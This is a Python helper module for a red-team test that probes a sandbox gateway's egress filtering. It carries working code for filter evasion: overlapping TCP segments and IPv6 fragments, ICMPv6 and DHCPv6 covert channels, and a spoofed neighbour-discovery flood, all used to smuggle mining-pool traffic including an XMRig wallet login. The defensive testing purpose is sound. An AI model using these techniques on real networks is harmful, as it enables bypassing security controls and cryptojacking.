"""Programs of test_redteam_round16 (run in the sandbox, or as the attacker's pool on the internet side): TCP and
IPv6 built by hand on an `AF_PACKET` socket (no kernel stack of the sandbox's in the way), ICMPv6 errors quoting a
proxied connection, neighbour discovery with payload options and a flood of it, DHCPv6 carrying data, and a pool
that answers and resets at once.

Every program prints ``done`` last (and what it saw before). Nothing here is mining software: the bytes are a pool
client's opening and a pool's job, played once per attempt.
"""

from __future__ import annotations

import contextlib
import os
import random
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Iterator

MARK = "rt16mark"
STRATUM = (
    b'{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}\n'
    b'{"id":2,"method":"mining.authorize","params":["' + MARK.encode() + b'.worker","x"]}\n'
)
_GET = b"GET /simple/ HTTP/1.1\r\nHost: 198.18.10.3:3333\r\nX-Pad: "
BENIGN = _GET + b"a" * (len(STRATUM) - len(_GET) - 4) + b"\r\n\r\n"
"""An HTTP request of exactly Stratum's length (the pool's address is allowed for HTTP by its network rule)."""
JOB = (
    b'{"id":null,"method":"mining.notify","params":["' + MARK.encode() + b'","00","01","02",[],"20000000",'
    b'"1d00ffff","5f5e1000",true]}\n'
)
"""The pool's push: a Stratum job (the server's side of the protocol)."""
HELLO = b'{"id":1,"method":"status.get","params":[]}\n'
"""What the client of the answering pool sends: a JSON-RPC call that names no pool method."""
POOL4 = "198.18.10.3"
POOL6 = "2001:db8:10::3"
SANDBOX4 = "10.203.1.2"
SANDBOX6 = "fd00:203:1::2"
PORTS = range(41000, 42000)
"""Source ports of the hand-made TCP connections: the sandbox kernel's resets for them are dropped (`_quiet`)."""
ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\x00"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _mac(interface: str) -> bytes:
    with open(f"/sys/class/net/{interface}/address") as handle:
        return bytes.fromhex(handle.read().strip().replace(":", ""))


def _pseudo(src: str, dst: str, proto: int, length: int) -> bytes:
    if ":" in src:
        return (
            socket.inet_pton(socket.AF_INET6, src)
            + socket.inet_pton(socket.AF_INET6, dst)
            + struct.pack("!IxxxB", length, proto)
        )
    return socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!xBH", proto, length)


def ip6_header(src: str, dst: str, next_header: int, length: int, hops: int = 64) -> bytes:
    addresses = socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst)
    return struct.pack("!IHBB", 6 << 28, length, next_header, hops) + addresses


def _ip4_header(src: str, dst: str, proto: int, length: int) -> bytes:
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, random.getrandbits(16), 0x4000, 64, proto, 0,
                       socket.inet_aton(src), socket.inet_aton(dst))  # fmt: skip
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:]


def icmp6(src: str, dst: str, body: bytes) -> bytes:
    """An ICMPv6 message (``body`` from its type on, checksum zero) summed over its pseudo-header."""
    total = checksum(_pseudo(src, dst, 58, len(body)) + body)
    return body[:2] + struct.pack("!H", total) + body[4:]


class Wire:
    """Frames sent and read on the sandbox's interface, below its own IP stack."""

    def __init__(self, interface: str, gateway_mac: bytes) -> None:
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.sock.bind((interface, 0))
        self.mac = _mac(interface)
        self.gateway_mac = gateway_mac

    def send(self, packet: bytes, six: bool, to: bytes | None = None) -> None:
        kind = b"\x86\xdd" if six else b"\x08\x00"
        self.sock.send((to or self.gateway_mac) + self.mac + kind + packet)

    def read(self, until: float) -> bytes | None:
        """The next IP packet that came in (not one sent), or None at ``until`` (monotonic)."""
        while (left := until - time.monotonic()) > 0:
            self.sock.settimeout(left)
            try:
                frame, address = self.sock.recvfrom(65535)
            except TimeoutError:
                return None
            if address[2] != PACKET_OUTGOING and frame[12:14] in (b"\x86\xdd", b"\x08\x00"):
                return frame[14:]
        return None


class RawTcp:
    """One TCP connection made by hand from a port of `PORTS` (the sandbox kernel's resets for it dropped)."""

    def __init__(self, wire: Wire, dst: str, dport: int) -> None:
        self.wire = wire
        self.six = ":" in dst
        self.src = SANDBOX6 if self.six else SANDBOX4
        self.dst, self.dport = dst, dport
        self.sport = random.choice(PORTS)
        self.seq = random.getrandbits(32)
        self.ack = 0
        self.received = b""

    def segment(self, flags: int, seq: int, payload: bytes = b"", options: bytes = b"") -> bytes:
        offset = (20 + len(options)) // 4
        head = struct.pack("!HHIIBBHHH", self.sport, self.dport, seq & 0xFFFFFFFF, self.ack, offset << 4, flags,
                           65535, 0, 0) + options  # fmt: skip
        total = checksum(_pseudo(self.src, self.dst, 6, len(head) + len(payload)) + head + payload)
        return head[:16] + struct.pack("!H", total) + head[18:] + payload

    def packet(self, tcp: bytes) -> bytes:
        if self.six:
            return ip6_header(self.src, self.dst, 6, len(tcp)) + tcp
        return _ip4_header(self.src, self.dst, 6, len(tcp)) + tcp

    def send(self, flags: int, seq: int, payload: bytes = b"", options: bytes = b"") -> None:
        self.wire.send(self.packet(self.segment(flags, seq, payload, options)), self.six)

    def _mine(self, packet: bytes) -> tuple[int, int, bytes] | None:
        """(flags, seq, payload) of a segment of this connection, or None."""
        if self.six:
            if packet[6] != 6 or socket.inet_ntop(socket.AF_INET6, packet[8:24]) != self.dst:
                return None
            tcp = packet[40:]
        else:
            if packet[9] != 6 or socket.inet_ntoa(packet[12:16]) != self.dst:
                return None
            tcp = packet[(packet[0] & 0xF) * 4 :]
        sport, dport, seq = struct.unpack("!HHI", tcp[:8])
        if (sport, dport) != (self.dport, self.sport):
            return None
        return tcp[13], seq, tcp[(tcp[12] >> 4) * 4 :]

    def wait(self, seconds: float, want: int = 0) -> tuple[int, int, bytes] | None:
        """Read this connection's segments for ``seconds`` (or until one with a flag of ``want``), acking data."""
        until = time.monotonic() + seconds
        while (packet := self.wire.read(until)) is not None:
            mine = self._mine(packet)
            if mine is None:
                continue
            flags, seq, payload = mine
            if payload and seq == self.ack:
                self.received += payload
                self.ack = (self.ack + len(payload)) & 0xFFFFFFFF
                self.send(0x10, self.seq)
            if flags & 0x04:  # a reset: nothing more comes
                return mine
            if want and flags & want:
                return mine
        return None

    def handshake(self) -> None:
        self.send(0x02, self.seq, options=struct.pack("!BBH", 2, 4, 1400))
        answer = self.wait(10, want=0x12)
        if answer is None or answer[0] & 0x12 != 0x12:
            raise RuntimeError(f"no SYN-ACK from {self.dst}:{self.dport}: {answer}")
        self.ack = (answer[1] + 1) & 0xFFFFFFFF
        self.seq = (self.seq + 1) & 0xFFFFFFFF
        self.send(0x10, self.seq)

    def reset(self) -> None:
        self.send(0x04, self.seq)


@contextlib.contextmanager
def _quiet() -> Iterator[None]:
    """The sandbox kernel's resets for the hand-made connections' ports dropped (it knows no such connection)."""
    table = "rt16kit"
    rule = f"tcp sport {PORTS.start}-{PORTS.stop - 1} tcp flags & rst == rst drop"
    script = f"table inet {table} {{\n chain out {{\n  type filter hook output priority 0;\n  {rule}\n }}\n}}\n"
    subprocess.run(["nft", "-f", "-"], input=script, text=True, check=True)
    try:
        yield None
    finally:
        subprocess.run(["nft", "delete", "table", "inet", table], check=False)


def _overlap(conn: RawTcp, variant: str) -> None:
    """Row 1: two copies of the same sequence range with different bytes (or overlapping out of order)."""
    s = conn.seq
    if variant == "overlap-benign-first":
        pieces = [(s, BENIGN), (s, STRATUM)]
    elif variant == "overlap-stratum-first":
        pieces = [(s, STRATUM), (s, BENIGN)]
    elif variant == "overlap-ooo-stratum-queued":  # the tail queued out of order, then a head that overlaps it
        pieces = [(s + 20, STRATUM[20:]), (s, BENIGN[:40])]
    else:  # overlap-ooo-benign-queued
        pieces = [(s + 20, BENIGN[20:]), (s, STRATUM[:40])]
    for seq, data in pieces:
        conn.send(0x18, seq, data)
    conn.seq = s + len(STRATUM)


def _fragments(conn: RawTcp, variant: str) -> None:
    """Row 2: the Stratum segment in IPv6 fragments (RFC 8200 4.5: offsets in 8-byte units)."""
    whole = conn.segment(0x18, conn.seq, STRATUM)
    benign = conn.segment(0x18, conn.seq, BENIGN)
    ident = random.getrandbits(32)

    def fragment(offset: int, more: bool, data: bytes) -> bytes:
        head = struct.pack("!BBHI", 6, 0, offset | int(more), ident)
        return ip6_header(conn.src, conn.dst, 44, 8 + len(data)) + head + data

    if variant == "frag6-atomic":
        frags = [fragment(0, False, whole)]
    elif variant == "frag6-tiny":  # 8 bytes of the TCP header first: its flags, window and checksum in the second
        frags = [fragment(0, True, whole[:8]), fragment(8, False, whole[8:])]
    elif variant == "frag6-overlap":  # the second fragment rewrites bytes 24-47 (the checksum is the Stratum's)
        frags = [fragment(0, True, whole[:20] + benign[20:48]), fragment(24, False, whole[24:])]
    else:  # frag6-overlap-reverse: the rewriting fragment first
        frags = [fragment(24, False, whole[24:]), fragment(0, True, whole[:20] + benign[20:48])]
    for frame in frags:
        conn.wire.send(frame, True)
    conn.seq += len(STRATUM)


def raw_main() -> None:
    """``raw_main VARIANT INTERFACE GATEWAY_MAC``: a hand-made TCP connection to the pool's allowed address:3333
    (IPv4 for ``overlap-*``, IPv6 for ``frag6-*``), the Stratum sent as the variant says, what came back read for
    2 s, then a reset. Prints ``answer N`` (bytes the pool's side sent back) and ``done``."""
    variant, interface, gateway_mac = sys.argv[1:4]
    wire = Wire(interface, bytes.fromhex(gateway_mac.replace(":", "")))
    with _quiet():
        conn = RawTcp(wire, POOL6 if variant.startswith("frag6") else POOL4, 3333)
        conn.handshake()
        (_fragments if variant.startswith("frag6") else _overlap)(conn, variant)
        conn.wait(2.0)
        conn.reset()
    print(f"answer {len(conn.received)} {conn.received[:80]!r}", flush=True)
    print("done", flush=True)


def _quote(sport: int, data: bytes) -> bytes:
    """The packet the sandbox "received" from allowed.lab:80 on its connection from ``sport``, carrying ``data``."""
    tcp = struct.pack("!HHIIBBHHH", 80, sport, 1, 1, 5 << 4, 0x18, 65535, 0, 0) + data
    return ip6_header("2001:db8:10::1", SANDBOX6, 6, len(tcp)) + tcp


def icmp_main() -> None:
    """``icmp_main``: an allowed request to allowed.lab over IPv6, kept open; meanwhile ICMPv6 errors quoting a
    segment of it (packet too big, 1,280; port unreachable; time exceeded), each quote carrying Stratum, sent from
    the sandbox to allowed.lab; then the request is read to its end. Prints ``answer ...`` and ``done``."""
    [(*_, where)] = socket.getaddrinfo("allowed.lab", 80, socket.AF_INET6, socket.SOCK_STREAM)[:1]
    with socket.create_connection((str(where[0]), 80), timeout=10) as conn:  # resolved: the gateway binds the name
        sport = int(conn.getsockname()[1])
        conn.sendall(b"GET / HTTP/1.1\r\nHost: allowed.lab\r\n\r\n")
        answer = conn.recv(4096)
        with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as raw:
            for kind, code, word in ((2, 0, 1280), (1, 4, 0), (3, 0, 0)):
                for data in (STRATUM, STRATUM * 7):  # 187 B and a quote that fills the minimum MTU (1,232 B)
                    quoted = _quote(sport, data)[: 1280 - 48]
                    raw.sendto(struct.pack("!BBHI", kind, code, 0, word) + quoted, ("2001:db8:10::1", 0))
        conn.sendall(b"GET / HTTP/1.1\r\nHost: allowed.lab\r\n\r\n")
        again = conn.recv(4096)
    print(f"answer {answer[:15]!r} {again[:15]!r}", flush=True)
    print("done", flush=True)


def _option(kind: int, data: bytes) -> bytes:
    """A neighbour discovery option (RFC 4861 4.6): type, length in 8-byte units, ``data`` padded."""
    body = data + bytes((-(len(data) + 2)) % 8)
    return bytes([kind, (len(body) + 2) // 8]) + body


def _nd(src: str, dst: str, body: bytes) -> bytes:
    message = icmp6(src, dst, body)
    return ip6_header(src, dst, 58, len(message), hops=255) + message


def _multicast_mac(address: str) -> bytes:
    return b"\x33\x33" + socket.inet_pton(socket.AF_INET6, address)[-4:]


def _link_local(interface: str) -> str:
    with open("/proc/net/if_inet6") as handle:
        for line in handle:
            raw, _, _, scope, _, name = line.split()
            if name == interface and scope == "20":
                return socket.inet_ntop(socket.AF_INET6, bytes.fromhex(raw))
    raise RuntimeError(f"no link-local address on {interface}")


def _advice(wire: Wire, mine: str, gateway_ll: str) -> int:
    """A neighbour solicitation, an unsolicited advertisement and a router advertisement, each with Stratum in
    options no node knows (type 200 and up: skipped, RFC 4861 4.6) and in a nonce option (type 14); sent."""
    payload = _option(200, STRATUM) + _option(14, MARK.encode()) + _option(201, STRATUM[::-1])
    target = socket.inet_pton(socket.AF_INET6, gateway_ll)
    solicit = struct.pack("!BBHI", 135, 0, 0, 0) + target + _option(1, wire.mac) + payload
    advert = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + socket.inet_pton(socket.AF_INET6, mine)
    advert += _option(2, wire.mac) + payload
    router = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 0, 0, 0) + _option(1, wire.mac) + payload
    sent = 0
    for dst, body in ((gateway_ll, solicit), ("ff02::1", advert), ("ff02::1", router), (gateway_ll, router)):
        to = _multicast_mac(dst) if dst.startswith("ff02") else None
        wire.send(_nd(mine, dst, body), True, to)
        sent += 1
    return sent


def ndp_main() -> None:
    """``ndp_main INTERFACE GATEWAY_MAC GATEWAY_LL FLOOD SOURCES``: the three messages with payload options, then
    ``FLOOD`` solicitations for the gateway's link-local address, each with a source link-layer option (a random
    MAC) and Stratum, from ``SOURCES`` distinct spoofed sources, half link-local, half in the sandbox's own /64."""
    interface, gateway_mac, gateway_ll, flood, sources = sys.argv[1:6]
    wire = Wire(interface, bytes.fromhex(gateway_mac.replace(":", "")))
    sent = _advice(wire, _link_local(interface), gateway_ll)
    spoofed = [
        f"fe80::{random.getrandbits(16):x}:{i:x}" if i % 2 else f"fd00:203:1::{random.getrandbits(16):x}:{i:x}"
        for i in range(1, int(sources) + 1)
    ]
    target = socket.inet_pton(socket.AF_INET6, gateway_ll)
    for i in range(int(flood)):
        src = spoofed[i % len(spoofed)]
        body = struct.pack("!BBHI", 135, 0, 0, 0) + target + _option(1, os.urandom(6)) + _option(200, STRATUM)
        wire.send(_nd(src, gateway_ll, body), True)
        sent += 1
    print(f"sent {sent}", flush=True)
    print("done", flush=True)


def dhcp6_main() -> None:
    """``dhcp6_main INTERFACE``: DHCPv6 solicits to ff02::1:2 (RFC 8415) from the sandbox's link-local address
    and from its global one, carrying Stratum in a client identifier (DUID-EN: any bytes), a vendor class and a
    vendor-specific information option."""
    interface = sys.argv[1]
    scope = socket.if_nametoindex(interface)

    def option(code: int, data: bytes) -> bytes:
        return struct.pack("!HH", code, len(data)) + data

    duid = struct.pack("!HI", 2, 32473) + STRATUM[:100]
    message = b"\x01" + os.urandom(3) + option(1, duid) + option(8, b"\x00\x00")
    message += option(16, struct.pack("!I", 32473) + struct.pack("!H", len(STRATUM)) + STRATUM)
    message += option(17, struct.pack("!I", 32473) + option(1, STRATUM))
    for source in (_link_local(interface), SANDBOX6):
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, scope)
            sock.bind((source, 546, 0, scope if source.startswith("fe80") else 0))
            for _ in range(3):
                sock.sendto(message, ("ff02::1:2", 547, 0, scope))
    print("done", flush=True)


def stratum_main() -> None:
    """``stratum_main``: Stratum to the pool's allowed address over IPv4 and IPv6 (the gateway's recording after
    a flood); prints ``answer ...`` per family and ``done``."""
    for address in (POOL4, POOL6):
        try:
            with socket.create_connection((address, 3333), timeout=5) as conn:
                conn.sendall(STRATUM)
                answer = conn.recv(4096)
        except OSError as exc:
            answer = repr(exc).encode()
        print(f"answer {address} {answer[:40]!r}", flush=True)
    print("done", flush=True)


ANSWERING = {
    "answer-then-reset": 4461,
    "push-then-reset": 4462,
    "answer-then-reset-tls": 4463,
    "push-then-reset-tls": 4464,
}
"""The answering pool's ports: it answers the client's first line with `JOB` and resets (4461), or pushes `JOB` as
it accepts, before the client speaks, and resets (4462); the same inside TLS (4463, 4464: the pool's handshake
first, with the certificate it is given, then the job in a TLS record and the reset)."""
PAUSES = tuple(i * 0.0002 for i in range(10))
"""The pool's pause between its answer and its reset, swept (the gateway's reads fall somewhere in it)."""


def _answer_and_reset(conn: socket.socket, port: int, pause: float, tls: ssl.SSLContext | None) -> None:
    """One of the pool's connections: the TLS handshake when ``tls``, the client's line read (the ``answer``
    ports), `JOB`, the pause, then a reset (``SO_LINGER`` 0: the close sends no close_notify)."""
    conn.settimeout(5)
    conn.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)  # the job at once: the reset drops what waits
    if tls is not None:
        conn = tls.wrap_socket(conn, server_side=True)
    with conn:
        if port in (ANSWERING["answer-then-reset"], ANSWERING["answer-then-reset-tls"]):
            conn.recv(4096)
        conn.sendall(JOB)
        end = time.perf_counter() + pause
        while time.perf_counter() < end:  # a busy wait: finer than sleep
            pass
        conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def pool_main() -> None:
    """``pool_main ADDRESS [CHAIN KEY]``: the answering pool on `ANSWERING`'s ports (the TLS ones only with a
    certificate chain and key); logs ``answered N`` per port as it goes."""
    address = sys.argv[1]
    tls: ssl.SSLContext | None = None
    if len(sys.argv) > 3:
        tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        tls.load_cert_chain(sys.argv[2], sys.argv[3])
    counts = dict.fromkeys(ANSWERING.values(), 0)

    def serve(port: int, context: ssl.SSLContext | None) -> None:
        with socket.create_server((address, port), backlog=128) as listener:
            while True:
                conn, _ = listener.accept()
                try:
                    _answer_and_reset(conn, port, PAUSES[counts[port] % len(PAUSES)], context)
                except (OSError, ssl.SSLError):
                    continue
                counts[port] += 1
                if counts[port] % 50 == 0:
                    print(f"answered {port} {counts[port]}", flush=True)

    for variant, port in ANSWERING.items():
        if not variant.endswith("-tls") or tls is not None:
            threading.Thread(target=serve, args=(port, tls if variant.endswith("-tls") else None), daemon=True).start()
    print("listening", flush=True)
    threading.Event().wait()


def answers_main() -> None:
    """``answers_main VARIANT COUNT THREADS [HOST]``: ``COUNT`` connections to the answering pool over ``THREADS``
    threads (at the pool's address, or at ``HOST`` resolved through the gateway: a host rule allows what its
    resolver bound), each sending `HELLO` (inside TLS for a ``-tls`` variant, ``HOST`` its server name, the
    gateway's certificate not checked) and reading until its end. Prints ``jobs N`` (connections on which the
    pool's job reached the sandbox) and ``done MADE``."""
    variant, count, threads = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    host = sys.argv[4] if len(sys.argv) > 4 else POOL4
    address = str(socket.getaddrinfo(host, None, socket.AF_INET, socket.SOCK_STREAM)[0][4][0])
    port = ANSWERING[variant]
    tls: ssl.SSLContext | None = None
    if variant.endswith("-tls"):
        tls = ssl.create_default_context()
        tls.check_hostname = False
        tls.verify_mode = ssl.CERT_NONE
    made: list[int] = []
    jobs: list[int] = []

    def attempts(share: int) -> None:
        for _ in range(share):
            try:
                conn = socket.create_connection((address, port), timeout=10)
            except OSError:
                continue
            got = b""
            with contextlib.suppress(OSError, ssl.SSLError):
                if tls is not None:
                    conn = tls.wrap_socket(conn, server_hostname=host)
                with conn:
                    conn.sendall(HELLO)
                    while chunk := conn.recv(4096):
                        got += chunk
            conn.close()
            made.append(1)
            if b"mining.notify" in got:
                jobs.append(1)

    workers = [threading.Thread(target=attempts, args=(count // threads,)) for _ in range(threads)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    print(f"jobs {len(jobs)}", flush=True)
    print(f"done {len(made)}", flush=True)


HEAD = b"GET / HTTP/1.1\r\nHost: {host}\r\nX-Rt16: head\r\n"
"""An HTTP request head that never gets its blank line; ``X-Rt16`` marks its bytes on the internet side."""
XMRIG_LOGIN = (
    b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skx'
    b'NgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge","pass":"x","rigid":"' + MARK.encode() + b'","agent":'
    b'"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0","algo":["rx/0"]}}\n'
)
"""XMRig's login (its JSON-RPC ``login`` call: wallet, password, rig id, agent, algorithms)."""
UNFINISHED = {
    "stratum-rst": (STRATUM, True),
    "stratum-fin": (STRATUM, False),
    "xmrig-rst": (XMRIG_LOGIN, True),
    "benign-rst": (b"User-Agent: curl/8.5.0\r\nAccept: */*\r\nX-Pad: ", True),
}
"""What follows the head's first lines, and whether the client resets (else a half-close, then its close)."""


def unfinished_main() -> None:
    """``unfinished_main VARIANT HOST PORT``: an HTTP request head to ``HOST`` (a name is resolved through the
    gateway first: a host rule allows what its resolver bound) never finished, the variant's lines in it, then
    a reset (``SO_LINGER`` 0) or a half-close and a read to the end. Prints ``answer N`` (bytes the gateway sent
    back) and ``done``."""
    variant, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    lines, reset = UNFINISHED[variant]
    address = str(socket.getaddrinfo(host, port, socket.AF_INET, socket.SOCK_STREAM)[0][4][0])
    answer = b""
    with socket.create_connection((address, port), timeout=20) as conn:
        conn.sendall(HEAD.replace(b"{host}", host.encode()) + lines)
        if reset:
            conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        else:
            conn.shutdown(socket.SHUT_WR)
            with contextlib.suppress(OSError):
                while chunk := conn.recv(4096):
                    answer += chunk
    print(f"answer {len(answer)} {answer[:60]!r}", flush=True)
    print("done", flush=True)
